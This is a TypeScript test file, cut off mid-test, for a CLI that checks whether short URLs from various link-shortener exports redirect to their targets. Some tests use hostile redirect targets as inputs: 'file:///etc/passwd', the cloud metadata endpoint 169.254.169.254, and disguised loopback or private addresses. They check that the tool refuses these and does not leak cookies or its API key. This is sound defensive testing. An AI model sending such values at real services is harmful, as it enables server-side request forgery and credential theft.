import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, readdirSync } from 'node:fs';
import { readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeEach, describe, expect, onTestFinished, test, vi } from 'vitest';
import { workbook } from '../../../tables/test/workbook-fixture.ts';
import { nobodyListens } from '../stub-service.ts';
import { type CliOptions, testFolder, cli as withoutService } from '../test-io.ts';

type Handler = (request: IncomingMessage, response: ServerResponse) => void;

/** A server of short links: each path is handled by its function; others are 404. */
async function shortLinks(paths: Record<string, Handler>) {
  const seen: IncomingMessage[] = [];
  let atOnce = 0;
  let most = 0;
  const server = createServer((request, response) => {
    seen.push(request);
    atOnce += 1;
    most = Math.max(most, atOnce);
    response.on('close', () => {
      atOnce -= 1;
    });
    const handle = paths[request.url ?? ''];
    if (handle === undefined) response.writeHead(404).end();
    else handle(request, response);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, port, seen, most: () => most };
}

const to =
  (location: string, status = 302): Handler =>
  (_, response) =>
    void response.writeHead(status, { Location: location }).end();
const status =
  (code: number, headers: Record<string, string> = {}): Handler =>
  (_, response) =>
    void response.writeHead(code, headers).end();
/** Each request gets the next one of the responses, and the last one from then on. */
const inTurn = (...handlers: Handler[]): Handler => {
  let index = 0;
  return (request, response) => {
    handlers[Math.min(index, handlers.length - 1)]?.(request, response);
    index += 1;
  };
};

/** The command, for a service on this machine: its short URLs and targets may be there too. */
const cli = (argv: readonly string[], options: CliOptions = {}) =>
  withoutService(argv, {
    ...options,
    env: { SHORTLINK_BASE_URL: 'http://localhost:1', ...options.env },
  });

let folder: string;
beforeEach(async () => {
  folder = await testFolder();
});

async function file(name: string, content: string): Promise<string> {
  const path = join(folder, name);
  await writeFile(path, content);
  return path;
}

/** Verifies a table of short URLs and targets, and returns the report as cells. */
async function verify(rows: [shortUrl: string, target: string][], ...args: string[]) {
  const input = await file(
    'links.csv',
    `short_url,target_url\n${rows.map((row) => `${row.join(',')}\n`).join('')}`,
  );
  const result = await cli(['verify', input, ...args]);
  return { ...result, findings: await findings(`${input}.verify.csv`) };
}

async function findings(path: string): Promise<string[][]> {
  const [, ...lines] = (await readFile(path, 'utf8')).trimEnd().split('\n');
  return lines.map((line) => line.split(',').slice(2));
}

test('every link of a results file is right', async () => {
  const { url, seen } = await shortLinks({
    '/a': to('https://example.com/a', 301),
    '/b': to('https://example.com/b', 302),
    '/c': to('https://example.com/c', 307),
    '/d': to('https://example.com/d', 308),
  });
  const input = await file(
    'links.csv.results.csv',
    `url,code,short_url,status,error\n${['a', 'b', 'c', 'd']
      .map((code) => `https://example.com/${code},${code},${url}/${code},created,\n`)
      .join('')}`,
  );
  const env = { SHORTLINK_API_KEY: 'sl_secret_secret', SHORTLINK_BASE_URL: url };
  const result = await cli(['verify', input], { env });
  expect(result).toMatchObject({ exitCode: 0, stdout: '' });
  expect(result.stderr).toMatch(/^✓ All 4 short URLs lead to their targets/);
  expect(await readFile(`${input}.verify.csv`, 'utf8')).toMatch(
    `verified,verified_status,verified_location,verified_target_status,verified_problem\n` +
      `https://example.com/a,a,${url}/a,created,,ok,301,https://example.com/a,,\n`,
  );
  expect(seen.map(({ method }) => method)).toEqual(['HEAD', 'HEAD', 'HEAD', 'HEAD']);
  const sent = JSON.stringify(seen.map(({ headers }) => headers));
  expect(sent).not.toMatch(/sl_secret|api-key|authorization|cookie/i);
});

test('a link that was created and has lost its short URL is wrong', async () => {
  const { url } = await shortLinks({ '/a': to('https://example.com/a') });
  const input = await file(
    'links.csv.results.csv',
    `url,code,short_url,status,error\nhttps://example.com/a,a,${url}/a,created,\nhttps://example.com/b,b,,created,\nhttps://example.com/c,,,failed,no\n`,
  );
  const { exitCode, stderr } = await cli(['verify', input]);
  expect(stderr).toContain('1 of 2 short URLs lead to their targets');
  expect(exitCode).toBe(3);
  const found = await findings(`${input}.verify.csv`);
  expect(found.map((cells) => cells[3])).toEqual(['ok', 'invalid_row', 'skipped']);
});

test('of an export, a link that is switched off has to be gone, and an archived one of Bitly leads on', async () => {
  const { url } = await shortLinks({ '/on': to('https://example.com/'), '/off': status(410) });
  const own = { target_url: 'https://example.com/', aliases: [] };
  const bitly = { long_url: 'https://example.com/', custom_bitlinks: [], archived: true };
  const rows: [object, object, string][] = [
    [{ short_url: `${url}/on`, is_active: false }, own, 'wrong_target'],
    [{ short_url: `${url}/off`, is_active: false }, own, 'ok'],
    [{ link: `${url}/on` }, bitly, 'ok'],
    [{ link: `${url}/off` }, bitly, 'gone'],
  ];
  for (const [row, others, verified] of rows) {
    const input = await file('links.jsonl', `${JSON.stringify({ ...row, ...others })}\n`);
    const report = join(folder, 'report.jsonl');
    await cli(['verify', input, '-o', report]);
    expect(JSON.parse(await readFile(report, 'utf8'))).toMatchObject({ verified });
  }
});

test.each([
  [
    'csv',
    (url: string) =>
      `long_url,custom_bitlinks,link\nhttps://e.com/,,${url}/a\nhttps://e.com/,${url}/a\n`,
  ],
  [
    'jsonl',
    (url: string) =>
      `{"long_url":"https://e.com/","link":"${url}/a"}\n{"long_url":"https://e.com/","custom_bitlinks":["${url}/a"]}\n`,
  ],
])(
  'a row of an export that ends before its short URL is verified by its other addresses: %s',
  async (extension, content) => {
    const { url } = await shortLinks({ '/a': to('https://e.com/') });
    const input = await file(`bitly.${extension}`, content(url));
    const report = join(folder, 'report.jsonl');
    const result = await cli(['verify', input, '-o', report]);
    expect(result.exitCode, result.stderr).toBe(0);
    const lines = (await readFile(report, 'utf8')).trimEnd().split('\n');
    const links = lines.map((line) => JSON.parse(line).link);
    expect(links.filter(Boolean)).toEqual([`${url}/a`, `${url}/a`]);
  },
);

test("the custom link in a table of Bitly's dashboard is verified, too", async () => {
  const { url } = await shortLinks({ '/a': to('https://e.com/'), '/sale': to('https://e.com/no') });
  const rows = `${url}/a,${url}/sale,https://e.com/\n${url}/a,,https://e.com/\n`;
  const input = await file('bitly.csv', `Link,Custom Link,Destination URL\n${rows}`);
  const { exitCode, stderr } = await cli(['verify', input]);
  expect(stderr).toContain('2 of 3 short URLs lead to their targets');
  expect(stderr).toContain(`line 2: ${url}/sale: it leads to https://e.com/no`);
  expect(exitCode).toBe(3);
});

test('what OpenSSL says is told in one line', async () => {
  const { port } = await shortLinks({});
  const { findings: found } = await verify([
    [`https://127.0.0.1:${port}/a`, 'https://example.com/'],
  ]);
  expect(found).toHaveLength(1);
  expect(found[0]?.[0]).toBe('tls_error');
  expect(found[0]?.at(-1)).not.toMatch(/SSL routines|\.c:/);
});

describe('what is wrong with a short URL', () => {
  test.each<[string, Handler, string[]]>([
    [
      'another target',
      to('https://example.com/other'),
      [
        'wrong_target',
        '302',
        'https://example.com/other',
        '',
        'it leads to https://example.com/other',
      ],
    ],
    ['a target without its query', to('https://example.com/'), ['wrong_target', '302']],
    ['no link', status(404), ['not_found', '404']],
    ['an inactive link', status(410), ['gone', '410']],
    ['a page', status(200), ['no_redirect', '200']],
    [
      'a redirect that may change the method',
      to('https://example.com/?a=1', 303),
      ['no_redirect', '303'],
    ],
    ['a redirect without an address', status(302), ['no_redirect', '302']],
    ['a refusal', status(403), ['http_error', '403']],
    ['a fault that passes too late', status(503), ['http_error', '503']],
    ['a redirect to itself', to('/x'), ['wrong_target', '302', '/x']],
    [
      'a redirect to a file',
      to('file:///etc/passwd'),
      ['wrong_target', '302', 'file:///etc/passwd'],
    ],
    ['a closed connection', (request) => request.socket.destroy(), ['unreachable']],
    ['no response', () => {}, ['timeout']],
  ])('%s', async (_, handle, expected) => {
    const { url } = await shortLinks({ '/x': handle });
    const timeout = expected[0] === 'timeout' ? '300ms' : '30s';
    const args = ['--max-retries', '0', '--timeout', timeout];
    const result = await verify([[`${url}/x`, 'https://example.com/?a=1']], ...args);
    expect(result.exitCode).toBe(3);
    expect(result.findings[0]?.slice(0, expected.length)).toEqual(expected);
    expect(result.stderr).toContain('! The short URL does not lead to its target');
    expect(result.stderr).toContain(`line 2: ${url}/x: `);
  });

  test.each([
    ['a host that nobody knows', 'http://nobody.invalid/x', 'unreachable', /ENOTFOUND|EAI_AGAIN/],
    ['no TLS', undefined, 'tls_error', /SSL|TLS|EPROTO/i],
    ['no URL', 'not a URL', 'invalid_row', /its short URL is no http or https URL/],
    ['a file', 'file:///etc/passwd', 'invalid_row', /short URL is no http/],
  ])('%s', async (_, short, finding, words) => {
    const { url } = await shortLinks({});
    const args = ['--max-retries', '0'];
    const shortUrl = short ?? `${url.replace('http:', 'https:')}/x`;
    const result = await verify([[shortUrl, 'https://example.com/']], ...args);
    expect(result).toMatchObject({ exitCode: 3 });
    expect(result.findings[0]?.[0]).toBe(finding);
    expect(result.findings[0]?.[4]).toMatch(words);
  });

  test('nobody listens', async () => {
    const url = await nobodyListens();
    const { findings } = await verify([[url, 'https://example.com/']], '--max-retries', '0');
    expect(findings).toEqual([
      ['unreachable', '', '', '', 'the connection was refused (ECONNREFUSED)'],
    ]);
  });
});

test.each([
  ['https://example.com', 'https://example.com/'],
  ['HTTPS://EXAMPLE.com:443/a', 'https://example.com/a'],
  ['https://example.com/ü?q=é ö', 'https://example.com/%C3%BC?q=%C3%A9%20%C3%B6'],
  ['https://bücher.example/', 'https://xn--bcher-kva.example/'],
])('%s and %s are the same target', async (target, location) => {
  const { url } = await shortLinks({ '/x': to(location) });
  expect((await verify([[`${url}/x`, target]])).exitCode).toBe(0);
});

test('a Location in UTF-8 that is not percent-encoded is the same target too', async () => {
  const location = Buffer.from('https://example.com/ü').toString('latin1');
  const { url } = await shortLinks({ '/x': to(location) });
  expect((await verify([[`${url}/x`, 'https://example.com/ü']])).exitCode).toBe(0);
});

test('failures that pass are asked again, after the time that the server names', async () => {
  const right = to('https://example.com/');
  const { url, seen } = await shortLinks({
    '/busy': inTurn(status(429, { 'Retry-After': '1' }), right),
    '/away': inTurn(status(503), right),
    '/lost': inTurn((request) => request.socket.destroy(), right),
  });
  const startedAt = performance.now();
  const result = await verify([
    [`${url}/busy`, 'https://example.com/'],
    [`${url}/away`, 'https://example.com/'],
    [`${url}/lost`, 'https://example.com/'],
  ]);
  expect(result.exitCode, result.stderr).toBe(0);
  expect(performance.now() - startedAt).toBeGreaterThanOrEqual(1000);
  expect(seen).toHaveLength(6);
});

test('a wait that takes too long is not waited for', async () => {
  const { url, seen } = await shortLinks({ '/x': status(429, { 'Retry-After': '86400' }) });
  const result = await verify([[`${url}/x`, 'https://example.com/']]);
  expect(result.findings).toEqual([['http_error', '429', '', '', 'the server responded with 429']]);
  expect(seen).toHaveLength(1);
});

test('--allow-get: a server without HEAD is asked with GET, whose body is not read', async () => {
  const { url, seen } = await shortLinks({
    '/x': ({ method }, response) => {
      if (method === 'HEAD') response.writeHead(405).end();
      else {
        response.writeHead(302, { Location: 'https://example.com/' });
        // A body without an end.
        response.write('x');
      }
    },
  });
  const rows: [string, string][] = [[`${url}/x`, 'https://example.com/']];
  expect((await verify(rows, '--allow-get')).exitCode).toBe(0);
  expect(seen.map(({ method }) => method)).toEqual(['HEAD', 'GET']);
});

test('without --allow-get, no GET is sent, because it could count a click', async () => {
  const { url, seen } = await shortLinks({ '/x': status(405) });
  const result = await verify([[`${url}/x`, 'https://example.com/']]);
  expect(result.exitCode).toBe(3);
  expect(result.findings[0]?.slice(0, 2)).toEqual(['http_error', '405']);
  expect(result.stderr).toContain('--allow-get');
  expect(seen.map(({ method }) => method)).toEqual(['HEAD']);
});

describe('--targets', () => {
  const dead = async (target: Handler, more: Record<string, Handler> = {}, timeout = '30s') => {
    const { url, seen } = await shortLinks({
      '/page': target,
      ...more,
      '/x': (_, response) => void response.writeHead(302, { Location: `${url}/page` }).end(),
    });
    const args = ['--targets', '--max-retries', '0', '--timeout', timeout];
    const result = await verify([[`${url}/x`, `${url}/page`]], ...args);
    return { ...result, seen };
  };

  test.each<[string, Handler]>([
    ['a page', status(200)],
    [
      'a page that HEAD does not find',
      ({ method }, response) => {
        response.writeHead(method === 'HEAD' ? 404 : 200).end();
      },
    ],
    ['a page behind a password', status(401)],
    ['a page that dislikes programs', status(403)],
    ['a redirect to a page', to('/next')],
  ])('%s is alive', async (_, handle) => {
    const { exitCode, findings } = await dead(handle, { '/next': status(204) });
    expect(exitCode).toBe(0);
    expect(findings[0]?.[3]).toMatch(/^2..|40[13]$/);
  });

  const withCookie = (page: string): Handler => {
    return (request, response) => {
      // Each hop sets another cookie, and deletes the one before.
      const { cookie = '' } = request.headers;
      if (cookie === 'two=2') response.writeHead(200).end();
      else {
        const set = cookie.includes('one=1')
          ? ['two=2; Path=/', 'one=; Max-Age=0', 'old=; Expires=Thu, 01 Jan 1970 00:00:00 GMT']
          : ['one=1; HttpOnly', 'old=x', 'foreign=1; Domain=example.com'];
        response.writeHead(302, { Location: page, 'Set-Cookie': set }).end();
      }
    };
  };

  test('a page that redirects until its cookies come back is alive, for one row as for the next', async () => {
    const { url, seen } = await shortLinks({
      '/a': withCookie('/a'),
      '/b': withCookie('/b'),
      '/x': (_, response) => void response.writeHead(302, { Location: `${url}/a` }).end(),
      '/y': (_, response) => void response.writeHead(302, { Location: `${url}/b` }).end(),
    });
    const rows: [string, string][] = [
      [`${url}/x`, `${url}/a`],
      [`${url}/y`, `${url}/b`],
    ];
    const result = await verify(rows, '--targets', '--concurrency', '1');
    expect(result.exitCode, result.stderr).toBe(0);
    expect(result.findings.map((cells) => cells[3])).toEqual(['200', '200']);
    const cookies = seen.map(({ url, headers }) => [url, headers.cookie]);
    expect(cookies.filter(([path]) => path === '/b')).toEqual([
      ['/b', undefined],
      ['/b', 'one=1; old=x'],
      ['/b', 'two=2'],
    ]);
    expect(cookies.filter(([path]) => path === '/x' || path === '/y')).toEqual([
      ['/x', undefined],
      ['/y', undefined],
    ]);
  });

  test('a cookie of one host is sent to no other', async () => {
    const { port, seen } = await shortLinks({
      '/x': (_, response) =>
        void response.writeHead(302, { Location: `http://127.0.0.1:${port}/page` }).end(),
      '/page': (_, response) => {
        const Location = `http://localhost:${port}/next`;
        response.writeHead(302, { Location, 'Set-Cookie': 'mine=1' }).end();
      },
      '/next': to('/last'),
      '/last': status(200),
    });
    const [short, page] = [`http://127.0.0.1:${port}/x`, `http://127.0.0.1:${port}/page`];
    expect((await verify([[short, page]], '--targets')).exitCode).toBe(0);
    expect(seen.map((request) => request.url)).toEqual(['/x', '/page', '/next', '/last']);
    expect(seen.map(({ headers }) => headers.cookie)).toEqual(Array(4).fill(undefined));
  });

  test.each<[string, Handler, RegExp]>([
    ['404', status(404), /its target is dead: the status is 404/],
    ['410', status(410), /the status is 410/],
    ['500', status(500), /the status is 500/],
    ['a circle', to('/page'), /redirects more than 20 times/],
    ['a redirect to a dead page', to('/nothing'), /the status is 404/],
    ['a redirect to a file', to('file:///etc/passwd'), /an address that is no http or https URL/],
    ['a page that never responds', () => {}, /no response within 0.3 s/],
  ])('%s is dead', async (_, handle, words) => {
    const isSilent = words.source.startsWith('no response');
    const { exitCode, findings, seen } = await dead(handle, {}, isSilent ? '300ms' : undefined);
    expect(exitCode).toBe(3);
    expect(findings[0]?.[0]).toBe('dead_target');
    expect(findings[0]?.[4]).toMatch(words);
    expect(seen.length).toBeLessThanOrEqual(22);
  });

  test.each([
    'http://169.254.169.254/latest/meta-data/',
    'http://127.0.0.1:9999/',
    'http://[::ffff:10.0.0.1]/',
    'http://[fe80::1]/',
    'http://2130706433/',
    'http://localhost:9999/',
    'http://api.localhost./',
  ])('a redirect of a page outside to %s is not followed', async (inside) => {
    const [short, page] = ['http://go.example/x', 'http://page.example/'];
    const { url, seen } = await shortLinks({ [short]: to(page), [page]: to(inside) });
    // As a proxy, the server gets every request with its whole address.
    const env = { HTTP_PROXY: url };
    const input = await file('links.csv', `short_url,url\n${short},${page}\n`);
    const argv = ['verify', input, '--targets', '--max-retries', '0'];
    const result = await withoutService(argv, { env });
    expect(result.exitCode).toBe(3);
    expect(result.stderr).toContain('a private address, which is not asked');
    expect(result.stderr).toContain('! The short URL leads to its target (');
    expect((await findings(`${input}.verify.csv`))[0]?.[0]).toBe('dead_target');
    expect(seen.map(({ url }) => url)).toEqual([short, page]);
  });

  test('the target of a link that is switched off is not asked', async () => {
    const { url, seen } = await shortLinks({ '/off': status(410) });
    const link = { short_url: `${url}/off`, is_active: false, aliases: [] };
    const row = { ...link, target_url: `${url}/page` };
    const input = await file('links.jsonl', `${JSON.stringify(row)}\n`);
    expect((await cli(['verify', input, '--targets'])).exitCode).toBe(0);
    expect(seen.map((request) => request.url)).toEqual(['/off']);
  });

  test('a target of many rows is asked once', async () => {
    const { url, seen } = await shortLinks({
      '/page': status(200),
      '/x': (_, response) => void response.writeHead(302, { Location: `${url}/page` }).end(),
      '/y': (_, response) => void response.writeHead(302, { Location: `${url}/page#part` }).end(),
    });
    const rows = Array.from({ length: 20 }, (): [string, string] => [`${url}/x`, `${url}/page`]);
    rows.push([`${url}/y`, `${url}/page#part`]);
    expect((await verify(rows, '--targets')).exitCode).toBe(0);
    expect(seen.filter((request) => request.url === '/page')).toHaveLength(1);
  });
});

describe('short URLs and targets at private addresses', () => {
  const right = to('https://example.com/');
  const tableOf = (short: string, target = 'https://example.com/') =>
    file('links.csv', `short_url,url\n${short},${target}\n`);

  test.each([
    (url: string) => url,
    (url: string) => url.replace('127.0.0.1', 'localhost'),
    (url: string) => url.replace('127.0.0.1', '2130706433'),
  ])('are not asked where the service has a public address: %s', async (at) => {
    const { url, seen } = await shortLinks({ '/x': right });
    const input = await tableOf(`${at(url)}/x`);
    const env = { SHORTLINK_BASE_URL: 'http://192.0.2.1' };
    for (const options of [{}, { env }]) {
      const result = await withoutService(['verify', input], options);
      expect(result.exitCode).toBe(3);
      expect(result.stderr).toContain(
        'it leads to a private address, which is not asked without --allow-private',
      );
      expect((await findings(`${input}.verify.csv`))[0]?.[0]).toBe('unreachable');
    }
    expect(seen).toEqual([]);
  });

  test('are asked where the service itself has one, with --allow-private, and at the server of --resolve', async () => {
    const { url, port, seen } = await shortLinks({ '/x': right });
    const input = await tableOf(`${url}/x`);
    const env = { SHORTLINK_BASE_URL: 'http://127.0.0.1:1' };
    expect((await withoutService(['verify', input], { env })).exitCode).toBe(0);
    expect((await withoutService(['verify', input, '--allow-private'])).exitCode).toBe(0);
    const resolve = ['--resolve', `127.0.0.1:${port}`];
    expect((await withoutService(['verify', input, ...resolve])).exitCode).toBe(0);
    expect(seen).toHaveLength(3);
  });

  test('a target that a row names is not asked either', async () => {
    const { url, port, seen } = await shortLinks({
      '/x': (_, response) => void response.writeHead(302, { Location: `${url}/page` }).end(),
    });
    const input = await tableOf('http://go.example/x', `${url}/page`);
    const resolve = ['--resolve', `go.example=127.0.0.1:${port}`];
    const result = await withoutService(['verify', input, '--targets', ...resolve]);
    expect(result.exitCode).toBe(3);
    expect(result.stderr).toContain('its target is dead: it leads to a private address');
    expect(seen.map((request) => request.url)).toEqual(['/x']);
  });
});

describe('--resolve', () => {
  test('connects to the named server for every host, and asks for the host of the short URL', async () => {
    const { port, seen } = await shortLinks({ '/x': to('https://example.com/') });
    const rows: [string, string][] = [
      ['http://old.example/x', 'https://example.com/'],
      ['http://other.invalid:8080/x', 'https://example.com/'],
    ];
    const result = await verify(rows, '--resolve', `127.0.0.1:${port}`);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(seen.map(({ headers }) => headers.host).sort()).toEqual([
      'old.example',
      'other.invalid:8080',
    ]);
  });

  test('connects to another server for one host', async () => {
    const one = await shortLinks({ '/x': to('https://example.com/1') });
    const other = await shortLinks({ '/x': to('https://example.com/2') });
    const rows: [string, string][] = [
      ['http://one.example/x', 'https://example.com/1'],
      ['http://Other.example/x', 'https://example.com/2'],
    ];
    const args = ['--resolve', `127.0.0.1:${one.port}`];
    const named = ['--resolve', `other.example=127.0.0.1:${other.port}`];
    const result = await verify(rows, ...args, ...named);
    expect(result.exitCode, result.stderr).toBe(0);
  });

  test.each([
    ['Bücher.example', 'http://bücher.example/x'],
    ['xn--bcher-kva.example', 'http://bücher.example/x'],
    ['go.example.', 'http://go.example/x'],
    ['go.example', 'http://go.example./x'],
  ])('%s is the host of %s', async (name, shortUrl) => {
    const { port } = await shortLinks({ '/x': to('https://example.com/') });
    const args = ['--resolve', `${name}=127.0.0.1:${port}`, '--max-retries', '0'];
    const result = await verify([[shortUrl, 'https://example.com/']], ...args);
    expect(result.exitCode, result.stderr).toBe(0);
  });

  test.each(['127.0.0.1', 'x:0', 'x:99999', 'http://x:80', '=x:80', 'a b:80'])(
    '%j is a usage error',
    async (value) => {
      const result = await cli(['verify', 'x.csv', '--resolve', value]);
      expect(result).toMatchObject({ exitCode: 2 });
      expect(result.stderr).toContain('192.0.2.10:443');
    },
  );
});

test.each(['x.xlsx', 'x.json'])('a report is no %s', async (output) => {
  const result = await cli(['verify', 'x.csv', '-o', output]);
  expect(result).toMatchObject({ exitCode: 2 });
  expect(result.stderr).toContain(`and ${output} would be something else`);
});

test('--concurrency bounds what is asked at once, and the report keeps the order of the rows', async () => {
  const paths: Record<string, Handler> = {};
  for (let index = 0; index < 40; index += 1) {
    paths[`/${index}`] = (_, response) => {
      const respond = () => to(`https://example.com/${index}`)(_, response);
      setTimeout(respond, index % 7 === 0 ? 60 : 5);
    };
  }
  const { url, most } = await shortLinks(paths);
  const rows = Object.keys(paths).map((path): [string, string] => [
    url + path,
    `https://example.com${path}`,
  ]);
  const { exitCode, findings } = await verify(rows, '--concurrency', '3');
  expect(exitCode).toBe(0);
  expect(most()).toBeLessThanOrEqual(3);
  expect(findings.map((cells) => cells[2])).toEqual(rows.map(([, target]) => target));
});

test('--rpm paces the requests', async () => {
  const times: number[] = [];
  const right = to('https://example.com/');
  const { url } = await shortLinks({
    '/x': (request, response) => {
      times.push(performance.now());
      right(request, response);
    },
  });
  const rows = Array.from({ length: 5 }, (): [string, string] => [
    `${url}/x`,
    'https://example.com',
  ]);
  expect((await verify(rows, '--rpm', '600')).exitCode).toBe(0);
  expect((times.at(-1) ?? 0) - (times[0] ?? 0)).toBeGreaterThanOrEqual(350);
});

test('rows without a link of their own are skipped', async () => {
  const { url, seen } = await shortLinks({ '/a': to('https://example.com/a') });
  const input = await file(
    'links.csv',
    `url,code,short_url,status,error
https://example.com/a,a,${url}/a,created,
nonsense,,,rejected,not a URL
https://example.com/b,a,${url}/a,rejected,a copy of line 2
https://example.com/c,,,failed,refused
https://example.com/d,,,unsent,the plan is full
https://example.com/e,,,unknown,no response
`,
  );
  const result = await cli(['verify', input, '--json']);
  expect(result.exitCode).toBe(0);
  expect(JSON.parse(result.stdout)).toMatchObject({
    command: 'verify',
    exit_code: 0,
    requests: 1,
    files: [{ rows: 6, links: 1, ok: 1, skipped: 5, wrong: 0, problems: [] }],
  });
  expect(seen).toHaveLength(1);
});

test('a row that can not be read is wrong', async () => {
  const { url } = await shortLinks({ '/a': to('https://example.com/a') });
  const right = JSON.stringify({ short_url: `${url}/a`, target_url: 'https://example.com/a' });
  const input = await file('links.jsonl', `${right}\n{"short_url":\n${right}\n`);
  const result = await cli(['verify', input]);
  expect(result.exitCode).toBe(3);
  expect(result.stderr).toContain('line 2: not a JSON object: ');
  expect(result.stderr).toContain('2 of 3 short URLs lead to their targets');
  expect(await readFile(`${input}.verify.csv`, 'utf8')).toContain('invalid_row');
});

test('the JSON summary names the wrong rows, in order', async () => {
  const { url } = await shortLinks({ '/a': to('https://example.com/a') });
  const input = await file(
    'links.csv',
    `Short link,Destination URL\n${url}/b,https://example.com/b\n${url}/a,https://example.com/a\n${url}/a,\n`,
  );
  const { stdout, stderr, exitCode } = await cli(['verify', input, '--json']);
  expect(exitCode).toBe(3);
  expect(stderr).toBe('');
  const [summary] = JSON.parse(stdout).files;
  expect(summary).toMatchObject({ links: 3, ok: 1, wrong: 2, not_found: 1, invalid_row: 1 });
  expect(summary.problems).toEqual([
    {
      line: 2,
      short_url: `${url}/b`,
      verified: 'not_found',
      problem: 'the server does not know this short URL (404)',
    },
    {
      line: 4,
      short_url: `${url}/a`,
      verified: 'invalid_row',
      problem: 'its target is no http or https URL',
    },
  ]);
});

describe('tables', () => {
  test.each([
    [
      'of Bitly',
      'links.csv',
      (url: string) => `link,long_url\n${url}/a,https://example.com/a\n`,
      [],
    ],
    [
      'with ;',
      'links.csv',
      (url: string) => `Short URL;Url\r\n${url}/a;https://example.com/a\r\n`,
      [],
    ],
    [
      'as TSV',
      'links.tsv',
      (url: string) => `shortlink\turl\n${url}/a\thttps://example.com/a\n`,
      [],
    ],
    [
      'as JSON Lines',
      'links.jsonl',
      (url: string) =>
        `${JSON.stringify({ target_url: 'https://example.com/a', short_url: `${url}/a`, n: 1 })}\n`,
      [],
    ],
    [
      'with other names',
      'links.csv',
      (url: string) => `old;new\n${url}/a;https://example.com/a\n`,
      ['--map', 'short_url=old', '--map', 'target_url=new'],
    ],
    [
      'without a header',
      'links.csv',
      (url: string) => `${url}/a,https://example.com/a\n`,
      ['--map', 'short_url=1', '--map', 'target_url=2'],
    ],
  ])('%s', async (_, name, content, args) => {
    const { url } = await shortLinks({ '/a': to('https://example.com/a') });
    const input = await file(name, content(url));
    const result = await cli(['verify', input, ...args]);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(await readFile(`${input}.verify.csv`, 'utf8')).toContain(`${url}/a`);
  });

  test.each([
    ['a list', (link: object) => [link, link]],
    ['that of Bitly', (link: object) => ({ links: [link, link], pagination: { total: 2 } })],
    ['that of Kutt', (link: object) => ({ limit: 10, data: [link, link] })],
    ['that of Shlink', (link: object) => ({ shortUrls: { data: [link, link] } })],
    ['that of YOURLS', (link: object) => ({ links: { link_1: link, link_2: link } })],
  ])('as one JSON document: %s', async (_, documentOf) => {
    const { url } = await shortLinks({ '/a': to('https://example.com/a') });
    const link = { link: `${url}/a`, long_url: 'https://example.com/a', n: [1] };
    const input = await file('links.json', JSON.stringify(documentOf(link), null, 2));
    const output = join(folder, 'report.jsonl');
    const result = await cli(['verify', input, '-o', output]);
    expect(result.exitCode, result.stderr).toBe(0);
    const lines = (await readFile(output, 'utf8')).trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line))).toMatchObject(
      [link, link].map((row) => ({ ...row, verified: 'ok' })),
    );
  });

  test.each([
    ['by its name', 'x.jsonl', []],
    ['as the user says', 'x', ['--input-format', 'jsonl']],
  ])('JSON Lines with a key that documents have their links in: %s', async (_, name, args) => {
    const { url } = await shortLinks({ '/a': to('https://example.com/a') });
    const row = { data: [{ id: 1 }], target_url: 'https://example.com/a', short_url: `${url}/a` };
    for (const rows of [[row], [row, row]]) {
      const text = rows.map((one) => `${JSON.stringify(one)}\n`).join('');
      const result = await cli(['verify', await file(name, text), ...args]);
      expect(result.exitCode, result.stderr).toBe(0);
    }
  });

  test('JSON Lines in and out keep their types', async () => {
    const { url } = await shortLinks({});
    const row = { target_url: 'https://example.com/a', short_url: `${url}/a`, n: 1 };
    const input = await file('links.jsonl', `${JSON.stringify(row)}\n`);
    const output = join(folder, 'report.jsonl');
    expect((await cli(['verify', input, '-o', output])).exitCode).toBe(3);
    expect(JSON.parse(await readFile(output, 'utf8'))).toEqual({
      ...row,
      verified: 'not_found',
      verified_status: 404,
      verified_location: null,
      verified_target_status: null,
      verified_problem: 'the server does not know this short URL (404)',
    });
  });

  test('results of lines with other keys, under any name', async () => {
    const { url } = await shortLinks({ '/a': to('https://e.com/a'), '/b': to('https://e.com/b') });
    const header = 'url,title,link,code,short_url,status,error,made_for';
    const a = `https://e.com/a,A,,a,${url}/a,created,,`;
    const input = await file(
      'out.csv',
      `${header}\n${a}\n,,https://e.com/b,b,${url}/b,created,,\n`,
    );
    const result = await cli(['verify', input]);
    expect(result.exitCode, result.stderr).toBe(0);
  });

  test('numbers of a JSON document keep their digits in the report', async () => {
    const { url } = await shortLinks({ '/a': to('https://example.com/a') });
    const id = '12345678901234567890';
    const link = `{"id" : ${id},"price" :1.0,"short_url":"${url}/a","target_url":"https://example.com/a"}`;
    const input = await file('links.json', `{"links":[${link}]}`);
    expect((await cli(['verify', input])).exitCode).toBe(0);
    expect(await readFile(`${input}.verify.csv`, 'utf8')).toContain(`\n${id},1.0,`);
  });

  test.each(['bit.example/a', 'bücher.example/a', 'i❤.example/a', 'go.例え.jp'])(
    '%s without a scheme is https',
    async (short) => {
      const { port } = await shortLinks({});
      const args = ['--resolve', `127.0.0.1:${port}`, '--max-retries', '0'];
      const { findings } = await verify([[short, 'https://example.com/']], ...args);
      expect(findings[0]?.[0]).toBe('tls_error');
    },
  );

  test('a report is verified again with the same columns', async () => {
    const { url } = await shortLinks({ '/a': to('https://example.com/a') });
    await verify([[`${url}/a`, 'https://example.com/a']]);
    const report = join(folder, 'links.csv.verify.csv');
    const again = await cli(['verify', report]);
    expect(again.exitCode).toBe(0);
    expect(await readFile(`${report}.verify.csv`, 'utf8')).toBe(await readFile(report, 'utf8'));
  });

  test.each([[[]], [['-o', 'report.jsonl']], [['--delimiter', ';']]])(
    'an earlier report is replaced, and what is none is kept: %j',
    async (more) => {
      const { url } = await shortLinks({ '/a': to('https://example.com/a') });
      const args = more.map((text) => (text.endsWith('l') ? join(folder, text) : text));
      const report = args[1]?.endsWith('l') ? args[1] : join(folder, 'links.csv.verify.csv');
      const delimiter = args.includes(';') ? ';' : ',';
      const run = async (target: string) => {
        const rows = [['short_url', 'url'].join(delimiter), [`${url}/a`, target].join(delimiter)];
        await writeFile(join(folder, 'links.csv'), `${rows.join('\n')}\n`);
